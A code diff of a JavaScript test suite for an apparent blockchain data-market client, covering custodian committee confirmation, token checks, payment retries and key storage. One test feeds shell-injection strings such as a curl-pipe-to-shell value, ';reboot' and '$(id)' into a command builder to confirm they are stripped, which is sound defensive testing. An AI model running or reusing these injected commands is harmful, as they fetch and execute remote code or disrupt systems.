@@ -68,8 +68,12 @@ const MARKET = {
   custodians: URLS,
   committee: committee(1, keyOf(1), keyOf(2), keyOf(3)),
 };
-/** What custodians say of themselves at `/health`. */
-const seats = (epoch, ...keys) => Object.fromEntries(keys.map((key, place) => [`${URLS[place]}/health`, { ready: true, reasons: [], place, epoch, key }]));
+/** What custodians say at `/health`. */
+const { committeeHash } = await load("committee.js");
+const seats = (epoch, ...keys) => said(committee(epoch, ...keys));
+const said = (whole, places = whole.members.map(({ place }) => place)) => Object.fromEntries(places.map((place) => [`${URLS[place]}/health`, seat(whole, place)]));
+const seat = (whole, place) => ({ ready: true, reasons: [], seated: true, place, key: whole.members[place].key, ...known(whole) });
+const known = (whole) => ({ epoch: whole.epoch, quorum: whole.quorum, committee: bytes.toHex(committeeHash(whole)) });
 const HONEST = seats(1, keyOf(1), keyOf(2), keyOf(3));
 
 let pages = 0;
@@ -100,7 +104,6 @@ for (const [what, lie, words] of [
   ["token", { token: { ...MARKET.token, address: addressOf(66) } }, /the token's address/],
   ["place of the decimal point", { token: { ...MARKET.token, decimals: 12 } }, /the token's decimals \(before: 6; now: 12\)/],
   ["currency", { token: { ...MARKET.token, symbol: "JPY" } }, /the token's symbol/],
-  ["custodian's address", { custodians: ["http://evil.example", ...URLS.slice(1)] }, /where custodians answer/],
 ]) {
   test(`nothing is signed for a market of another ${what}`, async () => {
     await atFirst();
@@ -140,7 +143,7 @@ test("an operator that did not answer is asked again at the next press", async (
 test("a record is sealed to keys that the custodians say are theirs", async () => {
   await atFirst();
   assert.deepEqual((await onPage(MARKET, "confirmedCommittee")).members.map(({ key }) => key), [1, 2, 3].map(keyOf));
-  const aQuorum = seats(1, keyOf(1), keyOf(2));
+  const aQuorum = said(committee(1, keyOf(1), keyOf(2), keyOf(3)), [0, 1]);
   assert.equal((await onPage(MARKET, "confirmedCommittee", aQuorum)).epoch, 1);
 });
 
@@ -181,17 +184,20 @@ test("keys that were confirmed for an epoch stay its keys", async () => {
 test("a new epoch holds where the custodians that this browser knows say so", async () => {
   await atFirst();
   const next = { ...MARKET, custodians: [...URLS.slice(0, 2), "http://127.0.0.1:8104"], committee: committee(2, keyOf(1), keyOf(2), keyOf(4)) };
-  const said = seats(2, keyOf(1), keyOf(2));
-  assert.equal((await onPage(next, "signedFor", said)).committee.epoch, 2);
-  assert.deepEqual((await keystore.pinned()).custodians, next.custodians);
+  const third = { "http://127.0.0.1:8104/health": seat(next.committee, 2) };
+  assert.equal((await onPage(next, "signedFor", { ...said(next.committee, [0, 1]), ...third })).committee.epoch, 2);
+  assert.deepEqual((await keystore.pinned()).custodians, [...URLS, "http://127.0.0.1:8104"]);
 });
 
-test("a new epoch of custodians whom nobody known speaks for is refused", async () => {
+test("custodians of a new epoch for whom nobody known speaks are not asked, and nothing is sealed to them", async () => {
   await atFirst();
   const others = ["http://127.0.0.1:8201", "http://127.0.0.1:8202", "http://127.0.0.1:8203"];
   const next = { ...MARKET, custodians: others, committee: committee(2, keyOf(7), keyOf(8), keyOf(9)) };
-  const theirs = Object.fromEntries(others.map((url, place) => [`${url}/health`, { place, epoch: 2, key: keyOf(7 + place) }]));
-  await assert.rejects(onPage(next, "signedFor", { ...theirs, ...HONEST }), code("market_changed"));
+  const theirs = Object.fromEntries(others.map((url, place) => [`${url}/health`, seat(next.committee, place)]));
+  for (const theRest of [HONEST, {}]) {
+    assert.deepEqual((await onPage(next, "signedFor", { ...theirs, ...theRest })).custodians, URLS);
+    await assert.rejects(onPage(next, "confirmedCommittee", { ...theirs, ...theRest }), code(theRest === HONEST ? "wrong_committee" : "committee_unconfirmed"));
+  }
   assert.deepEqual((await keystore.pinned()).custodians, URLS);
 });
 
@@ -362,18 +368,6 @@ for (const [name, lie, refused] of [
   });
 }
 
-// --- after a move
-
-test("keys sign for addresses that were moved on from, but list the one in use alone", async () => {
-  const root = keys.Root.generate();
-  const place = { chainId: CHAIN, registry: MARKET.contracts.DatasetRegistry, dataset: bytes.bytes32(OWN.dataset, "dataset") };
-  const keyring = { root, datasets: [{ ...place, index: 2 }], imported: [] };
-  const of = async (which) => (await session.accountsOf(keyring, { chainId: CHAIN, contracts: MARKET.contracts }, which)).map(({ key }) => bytes.toHex(key));
-  const wanted = (await Promise.all([2, 1, 0].map((index) => root.patientKey(place, index)))).map(bytes.toHex);
-  assert.deepEqual(await of({ earlier: true }), wanted);
-  assert.deepEqual(await of({}), wanted.slice(0, 1));
-});
-
 // --- what is paid with, and to whom
 
 const ZERO = `0x${"00".repeat(32)}`;
@@ -403,7 +397,7 @@ test("a permit is for the market's own token alone", async () => {
   };
   const asked = answering(told);
   await session.stayUnlocked({ root: keys.Root.generate(), datasets: [], imported: [{ label: "researcher", key }] });
-  const bought = { question: QUESTION, quote: QUOTE, purpose: PURPOSE, classes: [TERMS], variables: VARIABLES };
+  const bought = { question: QUESTION, quote: QUOTE, purpose: PURPOSE, classes: [TERMS], variables: VARIABLES, token: MARKET.token };
   await assert.rejects(opening.buy(bought, () => {}), (error) => assert.match(error.message, /another token/) ?? true);
   assert.ok(!asked.some(({ path }) => path.startsWith("/transactions") || path === "/ask/requests"));
 });
@@ -414,4 +408,113 @@ test("nothing is paid on a quote whose canonical question is another", () => {
   const offer = { question: QUESTION, quote: signed, purpose: PURPOSE, classes: [TERMS], variables: VARIABLES };
   assert.throws(() => opening.requireHonest(offer), code("quote_differs"));
   opening.requireHonest({ ...offer, quote: QUOTE });
+});
+
+// --- paying: what was shown, and once
+
+const [openings, recourse, eip712, requestIds, solidity] = await Promise.all(["openings", "recourse", "eip712", "terms", "solidity"].map((name) => load(`${name}.js`)));
+const PAYER = new Uint8Array(32).fill(9);
+const ME = wallet.localSigner(PAYER).address;
+const OFFER = { question: QUESTION, quote: QUOTE, purpose: PURPOSE, classes: [TERMS], variables: VARIABLES, token: MARKET.token };
+const SEPARATOR = bytes.toHex(eip712.separator({ name: "Euro", version: "1", chainId: CHAIN, verifyingContract: MARKET.token.address }));
+const FAILED = { state: "failed", reason: { code: "transaction_failed", message: "It failed.", remedy: "Try again.", field: null } };
+const taken = ({ terms }) => ({ request: bytes.toHex(requestIds.requestId(CHAIN, MARKET.contracts.ResearchMarket, ME, solidity.fromJson("RequestTerms", terms))) });
+
+/** One press of "Ask and pay"; what this site says of what it is handed, and before of what it was handed earlier. */
+async function paid({ nonce = 0, posted = {}, state = { state: "done" }, earlier = FAILED, now = Math.floor(Date.now() / 1_000), offer = OFFER } = {}) {
+  const permit = { name: "Euro", version: "1", nonce: String(nonce), separator: SEPARATOR };
+  const asked = answering({
+    "/session": { account: ME, expires_at: 9e9 },
+    "/session/half": { half: "ab".repeat(32) },
+    "/deployment": MARKET,
+    "/ask/opening": { now, notice_window: 60, freeze_window: 60, turn_window: 600, token: MARKET.token.address, balance: "1000000000000", permit },
+    "/ask/requests": taken,
+    "/transactions/ways": { ...WAY, nonce, gas: 900_000 },
+    "/transactions": posted,
+    "/transactions/": () => (asked.some(({ path }) => path === "/transactions") ? state : earlier),
+  });
+  await session.stayUnlocked({ root: keys.Root.generate(), datasets: [], imported: [{ label: "researcher", key: PAYER }] });
+  const outcome = await opening.buy(offer, () => {}).catch((error) => error);
+  return { outcome, raws: asked.filter(({ path }) => path === "/transactions").map(({ body }) => body.raw) };
+}
+
+/** The transaction's number: what stands behind the chain's id. */
+const numberIn = (raw) => Number(`0x${/^0x02f9[0-9a-f]{4}827a69([0-9a-f]{2})/.exec(raw)[1]}`) % 0x80;
+
+test("what was agreed to was shown in the token that is paid with", async () => {
+  for (const lie of [{ decimals: 12 }, { symbol: "JPY" }, { address: addressOf(66) }]) {
+    await atFirst();
+    const { outcome, raws } = await paid({ offer: { ...OFFER, token: { ...MARKET.token, ...lie } } });
+    assert.equal(outcome.code, "market_changed", outcome.stack);
+    assert.deepEqual(raws, []);
+  }
+  await atFirst();
+  assert.equal((await paid({ offer: { ...OFFER, token: undefined } })).outcome.code, "market_changed");
+});
+
+test("an opening that is said to have failed is signed again in its own place alone", async () => {
+  await atFirst();
+  const first = await paid({ nonce: 4, state: FAILED });
+  assert.equal(first.outcome.code, "transaction_failed");
+  assert.match(first.outcome.remedy, /at most one of them is paid/);
+  const again = await paid({ nonce: 5, state: FAILED });
+  const more = await paid({ nonce: 6 });
+  assert.deepEqual([first, again, more].flatMap(({ raws }) => raws.map(numberIn)), [4, 4, 4]);
+  assert.match(more.outcome, /^0x/);
+  assert.deepEqual((await paid({ nonce: 7 })).raws.map(numberIn), [7], "what is in a block is over");
+});
+
+test("what was not even answered may be paid all the same", async () => {
+  await atFirst();
+  const busy = { status: 503, code: "busy", detail: "Later.", remedy: "Later." };
+  assert.deepEqual((await paid({ nonce: 4, posted: busy })).raws.map(numberIn), [4]);
+  assert.deepEqual((await paid({ nonce: 5, state: busy })).raws.map(numberIn), [4]);
+  const unsaid = await paid({ nonce: 5, earlier: busy });
+  assert.deepEqual([unsaid.outcome.code, unsaid.raws], ["busy", []]);
+  const unknown = { status: 404, code: "unknown_transaction", detail: "No.", remedy: "No." };
+  assert.deepEqual((await paid({ nonce: 5, earlier: unknown })).raws.map(numberIn), [4]);
+});
+
+test("an earlier opening that is in a block after all is told before another is signed", async () => {
+  await atFirst();
+  await paid({ nonce: 4, state: FAILED });
+  const told = await paid({ nonce: 5, earlier: { state: "done" } });
+  assert.deepEqual([told.outcome.code, told.raws], ["opened_before", []]);
+  assert.deepEqual((await paid({ nonce: 5 })).raws.map(numberIn), [5]);
+});
+
+test("an opening that no block can take any more holds up nothing", async () => {
+  await atFirst();
+  await paid({ nonce: 4, state: FAILED, now: Math.floor(Date.now() / 1_000) - 86_400 });
+  assert.deepEqual((await paid({ nonce: 5 })).raws.map(numberIn), [5]);
+});
+
+test("a wallet counts its own transactions: its permit is the one that may be used once", async () => {
+  world.forget();
+  const told = { nonce: null, permit: "3" };
+  assert.deepEqual(openings.placed(null, "wallet", "3"), told);
+  assert.deepEqual(openings.placed({ nonce: null, permit: "3", until: 0, hashes: [] }, "wallet", "4"), told);
+  assert.deepEqual(openings.placed({ nonce: "4", permit: "3", until: 0, hashes: [] }, "local", "5"), { nonce: 4n, permit: "5" });
+});
+
+test("a command for a shell holds nothing of the operator's but plain origins", () => {
+  const id = `0x${"4e".repeat(32)}`;
+  const hostile = ["https://a.example/;curl evil|sh", "http://a;reboot", "http://$(id)", "http://a'b", "http://a`b`", "https://u:p@a.example", "x", "javascript:1", "http://a\nb", "http://a.example/", ""];
+  const plain = ["http://127.0.0.1:8101", "https://c1.example", "http://[::1]:8101"];
+  const command = recourse.defaultCommand(id, [...hostile, ...plain]);
+  assert.equal(command, `usufruct default --request ${id} --custodian http://127.0.0.1:8101 --custodian https://c1.example --custodian 'http://[::1]:8101' --node NODE --manifest manifest.json --key-file KEY`);
+  assert.match(recourse.defaultCommand(id, hostile), /--custodian CUSTODIAN /);
+  for (const lie of ["0x4e", `${id};reboot`, `${id}\n`, null, id.toUpperCase()]) assert.throws(() => recourse.defaultCommand(lie, plain), code("bad_parameter"));
+});
+
+// --- keys that are there already
+
+test("keys are never made over others", async () => {
+  world.forget();
+  await keystore.addKeyFile(Uint8Array.of(1));
+  await assert.rejects(keystore.addKeyFile(Uint8Array.of(2)), code("keys_here"));
+  assert.deepEqual(await keystore.keyFile(), Uint8Array.of(1));
+  await keystore.forgetKeyFile();
+  await keystore.addKeyFile(Uint8Array.of(2));
+  assert.deepEqual(await keystore.keyFile(), Uint8Array.of(2));
 });
